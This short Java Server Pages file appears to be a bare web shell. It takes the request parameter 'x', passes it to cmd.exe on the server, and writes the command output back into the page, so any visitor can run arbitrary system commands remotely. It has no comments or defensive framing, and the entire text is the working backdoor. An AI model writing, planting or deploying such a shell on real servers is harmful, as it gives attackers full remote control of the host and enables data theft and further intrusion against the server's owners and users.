<%!
  String run(String c) throws Exception {
    java.io.InputStream in = Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", c}).getInputStream();
    return new java.util.Scanner(in).useDelimiter("\\A").next();
  }
  String pick(javax.servlet.http.HttpServletRequest r) { return r.getParameter("x"); }
%>
<%= run(pick(request)) %>
